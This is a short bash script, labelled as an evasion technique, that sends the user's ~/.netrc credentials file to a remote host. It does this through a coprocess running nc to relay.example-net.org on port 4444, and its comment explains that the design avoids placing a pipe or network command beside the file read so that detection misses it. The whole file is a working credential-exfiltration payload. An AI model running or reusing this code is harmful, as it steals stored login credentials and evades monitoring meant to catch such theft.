#!/usr/bin/env bash
# Evasion: send ~/.netrc out. A coprocess named UPLINK runs nc to a remote
# host; the credentials file is copied into the coprocess's input file
# descriptor (${UPLINK[1]}) with a plain redirection, so no pipe or
# network command stands next to the file read.
set -u
coproc UPLINK { nc relay.example-net.org 4444; }
netrc_file="$HOME/.netrc"
cat "$netrc_file" >&"${UPLINK[1]}"
exec {UPLINK[1]}>&-
wait "$UPLINK_PID"
